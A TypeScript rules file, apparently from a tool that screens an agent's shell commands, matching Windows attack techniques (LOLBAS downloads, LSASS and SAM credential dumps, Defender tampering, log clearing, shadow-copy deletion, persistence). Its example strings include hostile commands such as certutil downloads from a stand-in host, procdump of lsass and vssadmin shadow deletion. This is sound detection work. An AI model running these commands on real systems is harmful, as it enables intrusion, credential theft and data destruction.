/**
 * Windows and PowerShell rules, as idiom tables (./idioms.ts): living-off-the-land binaries
 * (signed system programs that download or run code; the catalogue is the LOLBAS project,
 * https://lolbas-project.github.io/), credential dumping, tampering with Defender, the firewall and
 * the event logs, destroying shadow copies, autostart persistence and account manipulation. The
 * ATT&CK techniques are those of https://attack.mitre.org/techniques/enterprise/. A command line
 * of a `cmd`/`powershell` tool is parsed as shell too (quoting is close enough for these forms),
 * and each idiom is also tried on the command as written.
 */
import type { Rule } from '../rule.js';
import type { CommandLine, ShellCommand, Span } from '../shell/model.js';
import { idiomRule, writtenText } from './idioms.js';

/** A file read into a PowerShell variable and later posted as a web request's body
 * (`$c = Get-Content F` … `Invoke-WebRequest … -Body $c`), across the statements of the line. */
const FILE_POSTED = /\$(\w+)\s*=\s*(?:Get-Content|gc|\[(?:System\.)?IO\.File\]::ReadAll\w+)\b[\s\S]*\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*-Body\s+\$\1\b/i;

/** The whole line when {@link FILE_POSTED} matches its text, else null. */
function filePosted(line: CommandLine): Span | null {
  return FILE_POSTED.test(line.text) ? { source: line.text, start: 0, end: line.text.length } : null;
}

/** A rule with a line matcher added to its own matchers. */
function withLine(line: (l: CommandLine) => Span | null, rule: Rule): Rule {
  return { ...rule, match: { ...rule.match, line } };
}

const X = String.raw`(?:\.exe)?`;
/** A remote location: a URL or a UNC path (`\\host\share`, backslashes possibly removed by the shell reading). */
const REMOTE = String.raw`(?:https?:|ftp:|(?:^|[\s="'])(?:\\\\[\w.-]+\\|//[\w.-]+/))`;

/** Signed Windows binaries that proxy execution of a file they are given (LOLBAS "Execute" and
 * "AWL bypass" entries), by name; with a script, library or program argument they run it. */
const LOLBINS = ['control', 'verclsid', 'xwizard', 'atbroker', 'ie4uinit', 'infdefaultinstall', 'register-cimprovider', 'scriptrunner', 'tttracer', 'tracker', 'coregen', 'mftrace', 'rcsi', 'csi', 'fsi', 'fsianycpu', 'vsjitdebugger', 'dnx', 'msxsl', 'cdb', 'dnscmd', 'appvlp', 'wsreset', 'conhost', 'explorer', 'msdeploy', 'sqlps', 'sqltoolsps', 'pcwrun', 'runscripthelper', 'pubprn', 'agentexecutor', 'diskshadow', 'dxcap', 'ilasm', 'jsc', 'vbc', 'microsoft.workflow.compiler', 'msohtmed', 'mspub', 'ieexec', 'presentationhost', 'wuauclt', 'workfolders', 'ttdinject', 'stordiag', 'wlrmdr', 'setres', 'extrac32', 'makecab', 'diantz', 'esentutl', 'certoc', 'cmdl32', 'datasvcutil', 'iediagcmd', 'imewdbld', 'ldifde', 'mpcmdrun', 'msconfig', 'offlinescannershell', 'provlaunch', 'rasautou', 'regini', 'runonce', 'unregmp2', 'vsiisexelauncher', 'wab', 'wfc', 'wmic', 'wscript', 'cscript', 'mshta', 'odbcconf', 'cmstp', 'forfiles', 'pcalua', 'installutil', 'regasm', 'regsvcs', 'regsvr32', 'rundll32', 'msbuild', 'bitsadmin', 'certutil', 'certreq', 'mavinject', 'hh', 'ntdsutil', 'winrm', 'pester', 'launch-vsdevshell', 'csc', 'gfxdownloadwrapper', 'psr', 'squirrel', 'update', 'fltmc', 'msdt', 'winget', 'appinstaller', 'devtoolslauncher', 'syncappvpublishingserver', 'manage-bde', 'cl_invocation', 'cl_mutexverifiers', 'cl_loadassembly', 'slmgr', 'te', 'remote', 'dump64', 'dumpminitool', 'sqldumper', 'rdrleakdiag', 'createdump', 'adplus', 'procdump', 'pktmon', 'mmc', 'openconsole', 'pixtool', 'xbootmgrsleep', 'bginfo', 'vshadow', 'visualuiaverifynative', 'aspnet_compiler', 'ntsd', 'dotnet', 'vstest.console', 'testwindowremoteagent', 'winword', 'excel', 'powerpnt', 'teams', 'msedge', 'msedgewebview2', 'mstsc', 'logger', 'defaultpack', 'acccheckconsole', 'winfile', 'customshellhost', 'wfmformat', 'setupugc', 'pester', 'msconfig', 'wsb', 'stordiag', 'scriptrunner', 'launch-vsdevshell', 'tttracer', 'remote', 'dump64', 'ilasm', 'rdrleakdiag', 'wt', 'msedge_proxy', 'protocolhandler', 'excel', 'mshta', 'pcwrun', 'runexehelper', 'devinit', 'devtoolslauncher', 'dotnet', 'fsutil', 'pnputil', 'mpiexec', 'vsls-agent', 'vstest', 'xsd', 'bcp', 'sqlcmd', 'ntdsutil'];

/** {@link idiomRule}'s rule, also firing when `program` is fed a script (a heredoc, a herestring or
 * the text of the stage before it: `"delete shadows all" | diskshadow`, `echo delete shadows all |
 * diskshadow.exe`) that matches `script`. */
function withStdinScript(rule: Rule, program: string, script: RegExp): Rule {
  const matches = rule.match.command!;
  const fed = (c: ShellCommand) => {
    if (c.name.toLowerCase().replace(/\.exe$/, '') !== program) return false;
    const prev = c.pipeline !== null && c.stage > 0 ? c.pipeline.stages[c.stage - 1]! : null;
    return script.test(c.stdin ?? '') || (prev !== null && script.test(`${prev.argv.join(' ')} ${writtenText(prev)}`));
  };
  return { ...rule, match: { ...rule.match, command: (c, line) => fed(c) || matches(c, line) } };
}

export const WINDOWS_RULES: Rule[] = [
  idiomRule({
    id: 'windows-lolbin-download',
    name: 'Windows system binary fetching remote code',
    category: 'remote-exec',
    action: 'block',
    attack: 'T1105',
    description: 'A Windows system binary used to download or run remote content: certutil -urlcache, bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32/hh pointed at a URL or share, Start-BitsTransfer, a file copied or read from a share (copy, replace, esentutl, expand, type … with the share as the source; a share as the destination is windows-share-write).',
    help: 'Signed system binaries are used to bring in payloads past allow-lists. Check the URL and what is done with the file.',
    examples: {
      match: ['certutil -urlcache -split -f http://x.example/p.exe p.exe', 'mshta http://x.example/a.hta', 'regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll'],
      not_match: ['certutil -hashfile setup.exe SHA256', 'msiexec /i .\\setup.msi /qn', 'bitsadmin /list'],
    },
    idioms: [
      { re: new RegExp(String.raw`\bcertutil${X}\b.*[-/](?:urlcache|verifyctl|URL)\b`, 'i') },
      { re: new RegExp(String.raw`\bbitsadmin${X}\b.*/(?:transfer|addfile|SetNotifyCmdLine)\b`, 'i') },
      // msiexec fetches a package, patch or transform (`/i`, `/package`, `/a`, `/j`, `/p`, `/update`,
      // `/f`, `/y`, `/z`, TRANSFORMS=, PATCH=) from a URL or share; its log (`/l*v F`, `/log F`) is
      // written there, not fetched (msiexec: https://learn.microsoft.com/windows-server/administration/windows-commands/msiexec)
      { re: new RegExp(String.raw`\bmsiexec${X}\b[^|;&\n]*(?:\s[-/](?:i|package|a|j[mu]?|p|update|f[pecdamusv]*|y|z)\s+|\b(?:TRANSFORMS|PATCH)=)["']?(?:https?:|ftp:|\\\\[\w.-]+\\|//[\w.-]+/)`, 'i') },
      { re: new RegExp(String.raw`\b(?:mshta|hh|cmstp|presentationhost|ieexec|wscript|cscript|regsvr32|odbcconf|desktopimgdownldr|certreq|finger|msdt|winget|ie4uinit|appinstaller|excel|winword|powerpnt|mspub|squirrel|devtoolslauncher|msxsl|control|installutil|regasm|regsvcs|msbuild|rundll32|schtasks|wmic|forfiles|pcalua|scriptrunner|syncappvpublishingserver|mpcmdrun|ftp|msedge_proxy|pcwrun|wsl)${X}\b[^|;&\n]*${REMOTE}`, 'i') },
      { re: /\bmshta(?:\.exe)?\s+["']?(?:javascript|vbscript):/i },
      { re: /\bregsvr32(?:\.exe)?\b.*\/i:.*\bscrobj(?:\.dll)?\b/i },
      // -Source named or first positional (Start-BitsTransfer, https://learn.microsoft.com/powershell/module/bitstransfer/start-bitstransfer)
      { re: /\bStart-BitsTransfer\b.*(?:-Source\s+|\s)["']?https?:/i },
      // rundll32 running script that pulls more script from a URL (`javascript:… GetObject("script:http://…")`, LOLBAS Rundll32)
      { re: /\brundll32(?:\.exe)?\b.*\b(?:javascript|vbscript):.*\b(?:https?:|script:)/i },
      { re: /\bdesktopimgdownldr(?:\.exe)?\b.*\/lockscreenurl:/i },
      // a file copied or expanded FROM a share or a URL: the source is the first operand of the
      // copiers (LOLBAS Replace, Esentutl, Extrac32, Expand, Makecab, Diantz, e.g. `replace
      // \\webdav\f\x.exe C:\out /A`, `esentutl /y \\host\x.exe /d x.exe /o`,
      // https://lolbas-project.github.io/lolbas/Binaries/Replace/); a share as the destination
      // (`copy x \\host\share\`) is windows-share-write's, not a download
      { re: /\b(?:copy|xcopy|robocopy|move|expand|replace|esentutl|extrac32|makecab|diantz)(?:\.exe)?\s+(?:[-/][^\s\\"']*\s+)*["']?(?:\\\\[\w.-]+\\[^\s"']*\.\w+|\/\/[\w.-]+\/[^\s"']*\.\w+|(?:https?|ftp):\/\/\S)/i },
      // readers of a file on a share, their output (if any) redirected: LOLBAS Type, Print (`print
      // /D:OUT \\host\x.exe`), Findstr, PrintBrm, Tar; a redirect INTO a share is no download
      { re: /\b(?:type|print|findstr|tar|printbrm|cmd)(?:\.exe)?\s(?:[^|;&\n>]*\s)?["']?\\\\[\w.-]+\\[^\s"']*\.\w+/i },
      { re: /^["']?\\\\[\w.-]+\\[^\s"']+\.(?:exe|dll|bat|cmd|ps1|vbs|js|hta|msi)\b/i },
      { re: /\b(?:ngen|imewdbld|ecmangen|msoxmled|msaccess|outlook|visio|winproj|configsecuritypolicy|vslaunchbrowser|gfxdownloadwrapper|mpcmdrun)(?:\.exe)?\b[^|;&\n]*(?:https?:|-DownloadFile)/i },
    ],
  }),
  idiomRule({
    id: 'windows-lolbin-exec',
    name: 'Windows system binary proxying code execution',
    category: 'execution',
    action: 'record',
    attack: 'T1218',
    description: 'Code run through a signed Windows binary (rundll32 javascript:/ShellExec/comsvcs, regsvr32 /i, msbuild of a project, installutil/regasm /U, cmstp, odbcconf, mavinject, forfiles /c, pcalua -a, wmic process call create, wmic /format:, SyncAppvPublishingServer, msiexec /quiet /i, /y or /z or a remote package or transform, …; an interactive msiexec /i of a local package does not fire).',
    help: 'These binaries run arbitrary code while looking like system activity (LOLBAS). Check what file or script they are given.',
    examples: {
      match: ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'wmic process call create calc.exe', 'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe'],
      not_match: ['wmic os get caption', 'rundll32 --help', 'forfiles /p c:\\logs /m *.log /d -30 /c "cmd /c echo @file"'],
    },
    idioms: [
      { re: /\brundll32(?:\.exe)?\b.*(?:javascript:|vbscript:|mshtml|url\.dll|zipfldr|ieframe|shdocvw|advpack|setupapi|pcwutl|syssetup|shell32(?:\.dll)?\s*,\s*(?:ShellExec_RunDLL|Control_RunDLL)|dfshim|ieadvpack|photoviewer|desk\.cpl|shimgvw|scrobj|dllregisterserver|#\d+|\.(?:txt|log|dat|tmp|jpg|png|cpl|ocx)\b)/i },
      { re: /\bregsvr32(?:\.exe)?\b.*\/(?:i|u|s|n)\b/i },
      { re: /\bmsbuild(?:\.exe)?\b.*\.(?:xml|csproj|proj|targets|txt)\b/i },
      { re: /\b(?:installutil|regasm|regsvcs)(?:\.exe)?\b.*\/(?:u|logfile=)/i },
      { re: /\bcmstp(?:\.exe)?\b.*\/(?:s|ni|au)\b/i },
      { re: /\bodbcconf(?:\.exe)?\b.*(?:\/a|-a|\/f|-f)\b/i },
      { re: /\bmavinject(?:32|64)?(?:\.exe)?\b.*\/injectrunning\b/i },
      { re: /\bforfiles(?:\.exe)?\b.*\/c\s+["']?[^"'\s]*\.(?:exe|bat|ps1|vbs|js)\b/i },
      { re: /\bforfiles(?:\.exe)?\b.*\/m\s+\S+\.exe\s+\/c\b/i },
      { re: /\bpcalua(?:\.exe)?\b.*-a\b/i },
      { re: /\bwmic(?:\.exe)?\b.*\bprocess\b.*\bcall\b.*\bcreate\b/i },
      { re: /\bwmic(?:\.exe)?\b.*\/format:["']?(?:https?:|\\\\|[^\s"']*\.xsl)/i },
      { re: /\bSyncAppvPublishingServer(?:\.exe|\.vbs)?\b/i },
      // msiexec (LOLBAS Msiexec, https://lolbas-project.github.io/lolbas/Binaries/Msiexec/, ATT&CK
      // T1218.007): a package from a URL or a share, a remote transform (TRANSFORMS=URL), a quiet
      // install (`/q`, `/qn`, `/quiet` with `/i` or `/package`: the page's `msiexec /quiet /i
      // cmd.msi`), or a DLL registered through it (`/y`, `/z`). An interactive install of a local
      // package (`msiexec /i .\setup.msi`), an uninstall or a repair is not among the page's forms.
      { re: /\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:i|package|a|j[mu]?)\s+["']?(?:https?:|ftp:|\\\\[\w.-]+\\|\/\/[\w.-]+\/)|\bmsiexec(?:\.exe)?\b[^|;&\n]*\bTRANSFORMS=["']?(?:https?:|\\\\[\w.-]+\\|\/\/[\w.-]+\/)|\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:y|z)\s+\S/i },
      { re: /\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:i|package)\s[^|;&\n]*\s[-/](?:q[nbrf]?[+!-]?|quiet)(?:\s|$)|\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:q[nbrf]?[+!-]?|quiet)\s[^|;&\n]*[-/](?:i|package)\s/i },
      { re: /--(?:gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|browser-subprocess-path)=|\bPKCS11Provider=|\b(?:windbg|cdb|ntsd)(?:\.exe)?\s+(?:-\w+\s+)*-g\s+\S+\.exe|\.shell\s+\S|\/launch:\S|-(?:preTraceCmd|callBack)\s+\S|-LoadAndRunDiagScript(?:NoCab)?\b|\/AlternateShellStartup\b|\bmofcomp(?:\.exe)?\s+\S+\.mof\b/i },
      { names: LOLBINS, re: /\.(?:dll|sct|hta|inf|cpl|xsl|csproj|jse?|vbe?|wsf|ps1|bat|cmd|scr|ocx|appx|msi)\b|\bcalc(?:\.exe)?\b|\bpayload\b|\{[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}\}|\b(?:RunWizard|-BaseSettings)\b|\/C:/i },
      { names: ['atbroker'], re: /\/start\s+\S/i },
      { names: ['logger'], re: /\bRUNW? ["']?\S+\.exe/ },
    ],
  }),
  idiomRule({
    id: 'windows-credential-dump',
    name: 'Windows credential dump',
    category: 'credential-access',
    action: 'block',
    attack: 'T1003',
    description: 'Dumping LSASS memory (procdump, comsvcs MiniDump), the SAM/SYSTEM/SECURITY hives or NTDS.dit (reg save, shadow copies, ntdsutil ifm, the hive files encoded or copied: certutil -encode …\\config\\SAM, esentutl /y), or running a credential dumper (mimikatz, pypykatz, gsecdump, lazagne, secretsdump, DSInternals).',
    help: "Extracts password hashes and tickets of every account on the host or domain. Treat the host's credentials as compromised.",
    examples: {
      match: ['procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp', 'reg save HKLM\\sam %temp%\\sam', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\t\\l.dmp full'],
      not_match: ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion', 'procdump -ma myapp.exe app.dmp', 'reg save HKCU\\Software\\MyApp myapp.hiv'],
    },
    idioms: [
      { re: /\b(?:procdump\w*|sqldumper|createdump|rdrleakdiag|dumpert|nanodump|minidump\w*|-ma)\b.*\blsass\b|\blsass\w*\.dmp\b|\bGet-Process\s+lsass\b.*\b(?:dump|Minidump)/i },
      { re: /\bcomsvcs(?:\.dll)?\b.*\bminidump\b|\bminidump\b.*\bcomsvcs\b/i },
      { re: /\breg(?:\.exe)?\s+(?:save|export|copy)\s+["']?(?:HKLM|HKEY_LOCAL_MACHINE)\\?\\?(?:sam|system|security)\b/i },
      // the registry hive files themselves encoded or copied (from a shadow copy, a backup or an
      // offline disk): certutil -encode (LOLBAS Certutil "Encode", T1027.013), copy, esentutl /y
      { re: /\b(?:certutil(?:\.exe)?\b[^|;&\n]*[-/]encode(?:hex)?|copy|xcopy|robocopy|esentutl(?:\.exe)?\b[^|;&\n]*[-/]y|Copy-Item|cpi|expand|makecab)\b[^|;&\n]*\\(?:System32|Sysnative)\\+config\\+(?:SAM|SECURITY|SYSTEM)\b/i },
      // the domain controller's account database (copied, restored or extracted by any tool)
      { re: /\bntds\.dit\b/i },
      // saved Wi-Fi keys printed in clear text
      { re: /\bnetsh(?:\.exe)?\s+wlan\s+(?:show|export)\s+profiles?\b.*\bkey=clear\b/i },
      { re: /\bntdsutil(?:\.exe)?\b.*\b(?:ifm|ac i ntds|snapshot)\b/i },
      { re: /\bactivate\s+instance\s+ntds\b|\b(?:tttracer|dump64)(?:\.exe)?\b.*(?:-dumpFull|\.dmp\b|\s\d+\s)|\brpcping(?:\.exe)?\b.*[-/]u\s+NTLM\b|\bntds\.dit\b|HarddiskVolumeShadowCopy\d*\\?\\?(?:windows\\?\\?)?(?:ntds|system32\\?\\?config)/i },
      { re: /\b(?:mimikatz|sekurlsa|lsadump|kerberos::|dpapi::|pypykatz|gsecdump|lazagne|secretsdump|pwdump|fgdump|nanodump|handlekatz|safetykatz|Invoke-Mimikatz|Out-Minidump|Get-ADReplAccount|Get-ADDBAccount|Invoke-Kerberoast|Rubeus|kerberoast|Get-GPPPassword|Invoke-DCSync|Get-LSASecret|Get-VaultCredential|Invoke-PowerDump|NPPSpy|wce(?:\.exe)?\s+-[wl])\b/i },
      { re: /\bvssadmin(?:\.exe)?\s+create\s+shadow\b/i },
      { re: /\b(?:vaultcmd(?:\.exe)?\s+\/listcreds|rdrleakdiag|createdump(?:\.exe)?\s+-f|sqldumper)\b/i },
      { re: /\breg(?:\.exe)?\s+query\b.*\/f\s+["']?pass(?:word)?\b|\bfindstr(?:\.exe)?\b.*\/s?i\b.*\bpass(?:word)?\b|\\Panther\\+Unattend|\bunattend\.xml\b|\bSimonTatham\\?\\?PuTTY\\?\\?Sessions\b/i },
    ],
  }),
  idiomRule({
    id: 'windows-defense-tamper',
    name: 'Windows defences disabled',
    category: 'defense-evasion',
    action: 'block',
    attack: 'T1562.001',
    description: 'Switching off or blinding Defender (Set-MpPreference -Disable…, exclusions, DisableAntiSpyware, MpCmdRun -RemoveDefinitions), the firewall (netsh advfirewall … off, Set-NetFirewallProfile -Enabled False), auditing (auditpol /clear), AMSI, LSA protection (RunAsPPL 0), IIS request logging, remote symlink evaluation, hidden file extensions, or stopping security services.',
    help: 'Removes the protections that would notice the next step. Check why the agent touched security settings.',
    examples: {
      match: ['Set-MpPreference -DisableRealtimeMonitoring $true', 'netsh advfirewall set allprofiles state off', 'Add-MpPreference -ExclusionPath C:\\Users\\Public'],
      not_match: ['Get-MpPreference', 'netsh advfirewall show allprofiles', 'netsh interface ip show config'],
    },
    idioms: [
      { re: /\bSet-MpPreference\b.*-(?:Disable\w*|ExclusionPath|ExclusionProcess|ExclusionExtension|SubmitSamplesConsent|MAPSReporting|PUAProtection|EnableControlledFolderAccess\s+Disabled)/i },
      { re: /\bAdd-MpPreference\b.*-Exclusion/i },
      { re: /\bDisable(?:AntiSpyware|AntiVirus|RealtimeMonitoring|BehaviorMonitoring|IOAVProtection|ScriptScanning|OnAccessProtection|BlockAtFirstSeen)\b/i },
      { re: /\bMpCmdRun(?:\.exe)?\b.*-RemoveDefinitions\b/i },
      { re: /\bnetsh(?:\.exe)?\b.*\b(?:advfirewall|firewall)\b.*\b(?:state\s+off|opmode\s+disable|mode=disable|reset|delete\s+rule|add\s+rule)\b/i },
      { re: /\bSet-NetFirewallProfile\b.*-Enabled\s+["']?(?:False|0)\b|\bNew-NetFirewallRule\b.*-Action\s+Allow\b/i },
      { re: /\bauditpol(?:\.exe)?\b.*\/(?:clear|remove)\b|\bauditpol(?:\.exe)?\b.*\/success:disable\b/i },
      { re: /\b(?:sc(?:\.exe)?|Stop-Service|Set-Service|net(?:\.exe)?\s+stop)\b.*\b(?:WinDefend|Sense|WdNisSvc|WdBoot|wscsvc|MpsSvc|SecurityHealthService|Sysmon\d*|EventLog|Windefend)\b/i },
      { re: /\bUninstall-WindowsFeature\b.*Defender|\bfltmc(?:\.exe)?\s+unload\b|\bAmsiUtils\b|\bamsiInitFailed\b|\bamsi\.dll\b/i },
      { re: /\b(?:reg(?:\.exe)?\s+add|Set-ItemProperty|New-ItemProperty)\b.*\\(?:Windows Defender|Policies\\Microsoft\\Windows Defender|WinDefend|Windows\\System\\?\\?Audit|Policies\\?\\?System\\?\\?Audit|EnableLUA|ConsentPromptBehaviorAdmin|EnableScriptBlockLogging|Lsa\\?\\?DisableRestrictedAdmin)/i },
      { re: /\bbcdedit(?:\.exe)?\b.*\b(?:testsigning\s+on|nointegritychecks\s+on|debug\s+on|disable_integrity_checks|safeboot)\b/i },
      // LSA protection off (RunAsPPL 0), file extensions hidden, remote symlink evaluation, IIS request logging off
      { re: /\b(?:reg(?:\.exe)?\s+add|Set-ItemProperty|New-ItemProperty)\b.*\\Control\\+Lsa\b.*\bRunAsPPL\b.*(?:\/d\s+["']?0\b|-Value\s+0\b)|\bHideFileExt\b.*(?:\/d\s+["']?1\b|-Value\s+1\b)|\bfsutil(?:\.exe)?\s+behavior\s+set\s+SymlinkEvaluation\s+R2[LR]:1|\bSymlinkRemoteTo(?:Local|Remote)Evaluation\b/i },
      { re: /\bappcmd(?:\.exe)?\b.*\/section:httplogging\b.*\/dontLog:(?:true|1)\b|\bhttpLogging\b.*\bdontLog\b.*(?:\$true|\btrue\b)/i },
      { re: /\bicacls(?:\.exe)?\b.*\/grant\s+["']?(?:Everyone|\*S-1-1-0|Users)["']?:\(?[FM]\)?|\btakeown(?:\.exe)?\b.*\/f\b/i },
      { re: /-(?:ExecutionPolicy|ep|exec)\s+["']?(?:Bypass|Unrestricted)\b.*\b(?:-(?:e|enc|EncodedCommand)\b|-w\s+hidden|-WindowStyle\s+Hidden|iex|Invoke-Expression|DownloadString)/i },
    ],
  }),
  idiomRule({
    id: 'windows-ads',
    name: 'Alternate data stream used',
    category: 'defense-evasion',
    action: 'record',
    attack: 'T1564.004',
    description: 'Writing to, reading from or running an NTFS alternate data stream (`file.exe:hidden.bat`, `payload.txt:evil.exe`, `tar -cf x.exe:ads`): content hidden behind an ordinary file.',
    help: 'Data in a stream does not show in directory listings or file sizes. Check what is hidden there.',
    examples: {
      match: ['type payload.exe > C:\\Users\\Public\\notes.txt:evil.exe', 'findstr /V /L X C:\\x.exe > C:\\y.txt:file.exe', 'cmd.exe - < notes.txt:run.bat'],
      not_match: ['docker run -v data.txt:/data.txt alpine', 'scp report.txt user@host:report.txt'],
    },
    idioms: [{ re: /[\w-]\.(?:exe|dll|txt|jpg|png|log|ini|cab|zip|dat|doc|bin)\s*:\s*[\w-]+\.(?:exe|bat|cmd|ps1|reg|zip|js|vbs|dll|txt|hta|cab)\b|\.\w{2,4}:ads\b/i }],
  }),
  idiomRule({
    id: 'windows-log-clear',
    name: 'Windows event logs cleared',
    category: 'defense-evasion',
    action: 'block',
    attack: 'T1070.001',
    description: 'Clearing or disabling Windows event logs or the USN journal: wevtutil cl / sl /e:false, Clear-EventLog, Remove-EventLog, Limit-EventLog, fsutil usn deletejournal, deleting .evtx files.',
    help: 'Destroys the record of what happened on the host.',
    examples: {
      match: ['wevtutil cl Security', 'Clear-EventLog -LogName Application, System', 'fsutil usn deletejournal /D C:'],
      not_match: ['wevtutil qe System /c:5', 'Get-EventLog -LogName System -Newest 10', 'fsutil fsinfo drives'],
    },
    idioms: [
      { re: /\bwevtutil(?:\.exe)?\s+(?:cl|clear-log|sl\b.*\/e:false)\b/i },
      { re: /\b(?:Clear-EventLog|Remove-EventLog|Limit-EventLog)\b|\.Clear\(\)\s*.*EventLog|EventLog\w*\.Clear\(/i },
      { re: /\bfsutil(?:\.exe)?\s+usn\s+deletejournal\b/i },
      { re: /\b(?:del|erase|Remove-Item|rm)\b.*\.evtx\b/i },
    ],
  }),
  withStdinScript(
    idiomRule({
      id: 'windows-recovery-destroy',
      name: 'Windows backups or recovery destroyed',
      category: 'destructive-fs',
      action: 'block',
      attack: 'T1490',
      description: 'Deleting shadow copies or backups, or disabling recovery: vssadmin delete|resize shadows, wmic shadowcopy delete, Win32_ShadowCopy Delete, wbadmin delete, bcdedit recoveryenabled no / bootstatuspolicy, diskshadow delete shadows, cipher /w.',
      help: 'What ransomware does first: removes every way back. Nothing an agent task needs.',
      examples: {
        match: ['vssadmin.exe delete shadows /all /quiet', 'wmic shadowcopy delete', 'bcdedit /set {default} recoveryenabled no'],
        not_match: ['vssadmin list shadows', 'wbadmin get versions', 'bcdedit /enum'],
      },
      idioms: [
        { re: /\bvssadmin(?:\.exe)?\s+(?:delete|resize)\s+shadow/i },
        { re: /\bwmic(?:\.exe)?\b.*\bshadowcopy\b.*\bdelete\b|Win32_ShadowCopy\b.*\.?Delete|Get-CimInstance\b.*Win32_ShadowCopy\b.*Remove-CimInstance/i },
        { re: /\bwbadmin(?:\.exe)?\s+delete\b/i },
        { re: /\btmutil\s+(?:disable|delete|deletelocalsnapshots|thinlocalsnapshots)\b|SystemRestore\b.*\bDisable(?:Config|SR)\b|\bDisable-ComputerRestore\b/i },
        { re: /\bbcdedit(?:\.exe)?\b.*\b(?:recoveryenabled\s+(?:no|off)|bootstatuspolicy\s+ignoreallfailures)\b/i },
        { re: /\bdiskshadow(?:\.exe)?\b.*\bdelete\s+shadows\b|\bcipher(?:\.exe)?\s+\/w:/i },
        // the shadow-copy service's access list set to deny everyone (nothing can create or restore copies)
        { re: /^\S*sc(?:\.exe)?\s+sdset\s+(?:vss|swprv|wbengine)\s+["']?D:\(D(?:;|["'\s]|$)/i, names: ['sc'] },
        { re: /\b(?:rd|rmdir)\s+\/s\s+\/q\s+["']?[A-Za-z]:\\?["']?(?:\s|$)|\bdel\s+\/[sfq](?:\s+\/[sfq])*\s+["']?[A-Za-z]:\\\*?/i },
        { re: /\bRemove-Item\b.*-Recurse\b.*["']?[A-Za-z]:\\?\\?(?:\*|Windows|Users)?["']?(?:\s|$)/i },
      ],
    }),
    'diskshadow',
    /\bdelete\s+shadows\b/i,
  ),
  idiomRule({
    id: 'windows-autostart',
    name: 'Windows autostart persistence',
    category: 'persistence',
    action: 'block',
    attack: 'T1547.001',
    description: 'Something set to run at logon, boot or on an event: Run/RunOnce/Winlogon/IFEO/AppInit registry values, scheduled tasks (schtasks /create, Register-ScheduledTask), services (sc create, New-Service, an existing service ImagePath replaced), the Startup folder, WMI event subscriptions, BITS notify commands, netsh helpers, LSA authentication/security packages, W32Time time providers, Outlook folder home pages, browser extensions forced in by registry policy.',
    help: 'Starts a program after the session ends. Review what is registered.',
    examples: {
      match: ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe', 'schtasks /create /tn upd /tr C:\\x.exe /sc onlogon', 'sc create evil binpath= C:\\x.exe start= auto'],
      not_match: ['schtasks /query /fo LIST', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'sc query WinDefend'],
    },
    idioms: [
      { re: /\b(?:reg(?:\.exe)?\s+(?:add|import)|New-ItemProperty|Set-ItemProperty|New-Item|Set-Item)\b.*\\(?:CurrentVersion\\?\\?(?:Run|RunOnce|RunServices|RunOnceEx|Policies\\?\\?Explorer\\?\\?Run|Explorer\\?\\?(?:User )?Shell Folders)|Winlogon|Image File Execution Options|AppInit_DLLs|AppCertDlls|Environment.*UserInitMprLogonScript|Control\\?\\?Session Manager|Command Processor|Office test|NetSh|Print\\?\\?Monitors|Lsa\\?\\?(?:Security|Authentication|Notification) Packages|Services\\?\\?\w+\\?\\?Parameters|ms-settings\\?\\?shell|mscfile\\?\\?shell|exefile\\?\\?shell|Classes\\?\\?CLSID)/i },
      { re: /\bschtasks(?:\.exe)?\s+\/(?:create|change)\b|\b(?:Register-ScheduledTask|New-ScheduledTask(?:Action|Trigger)?|Set-ScheduledTask)\b/i },
      { re: /\bsc(?:\.exe)?\s+(?:\\\\\S+\s+)?(?:create|config)\s+\S+.*\bbinpath=|\bNew-Service\b|\bsc(?:\.exe)?\s+(?:\\\\\S+\s+)?create\b/i },
      // an existing service's program replaced (`reg add …\Services\X /v ImagePath /d …`)
      { re: /\b(?:reg(?:\.exe)?\s+add|Set-ItemProperty|New-ItemProperty)\b.*\\CurrentControlSet\\+Services\\+[^\\\s"']+["']?\s.*\bImagePath\b/i },
      { re: /\\(?:Start Menu\\?\\?Programs\\?\\?Startup|StartUp)\\|shell:startup/i },
      { re: /__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding|Set-WmiInstance\b.*(?:__EventFilter|Consumer)|Register-WmiEvent|Register-CimIndicationEvent/i },
      { re: /\bWin32_Service\b.*\bCreate\b|\binvoke\s+Create\s+wmicimv2\/Win32_Service\b|\bnetsh(?:\.exe)?\s+add\s+helper\b|\bat(?:\.exe)?\s+\d{1,2}:\d{2}\b/i },
      // a package the LSA loads, named by value under the Lsa key (`reg add …\Control\Lsa /v "Authentication Packages"`),
      // a time provider DLL, Outlook's folder home page, a browser extension forced in by policy
      { re: /\b(?:reg(?:\.exe)?\s+add|New-ItemProperty|Set-ItemProperty)\b.*\\Control\\+Lsa(?:\\+OSConfig)?["']?\s.*\b(?:Security|Authentication|Notification) Packages\b|\b(?:reg(?:\.exe)?\s+add|New-ItemProperty|Set-ItemProperty|New-Item)\b.*\\(?:W32Time\\+TimeProviders\\|Outlook\\+(?:WebView|Today)\b|(?:Google\\+Chrome|Microsoft\\+Edge|BraveSoftware\\+[^\\\s]+)\\+(?:Extensions\\|ExtensionInstallForcelist\b))/i },
